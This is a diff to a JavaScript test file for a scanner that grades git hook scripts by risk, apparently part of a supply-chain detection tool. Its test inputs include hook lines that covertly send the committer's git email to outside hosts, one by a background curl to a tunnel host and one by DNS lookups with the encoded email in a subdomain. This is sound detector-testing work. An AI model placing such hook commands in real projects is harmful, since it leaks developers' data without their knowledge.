@@ -100,6 +100,8 @@ describe('git-hook-command', () => {
   it('rates a hook that sends data to a tunnel, paste or bare-IP host high, a chat webhook as any network use', () => {
     expect(found('.husky/pre-commit', null, 'npx lint-staged\ncurl -s https://hooks.trycloudflare.com/c -d "$(git config --get user.email)" >/dev/null 2>&1 &\n')).toContain('git-hook-command:high');
     expect(found('.husky/pre-push', null, 'curl -s -X POST https://hooks.slack.com/services/T000/B000/XXXX -d "{\\"text\\": \\"pushed\\"}"\n')).toEqual(['git-hook-command:medium']);
+    expect(found('.husky/pre-commit', null, 'npx lint-staged\nnslookup "$(git config --get user.email | base32 | tr -d =).h.git-stats.dev" >/dev/null 2>&1 &\n')).toContain('git-hook-command:high');
+    expect(found('.husky/pre-commit', null, 'npx lint-staged\ndig +short "$(git rev-parse --short HEAD).preview.acme.dev"\n')).toEqual(['git-hook-command:low', 'git-hook-command:low']);
   });
   it('reports new husky and lefthook commands, graded by what they run', () => {
     expect(found('.husky/pre-commit', null, 'npx lint-staged\n')).toEqual(['git-hook-command:low']);
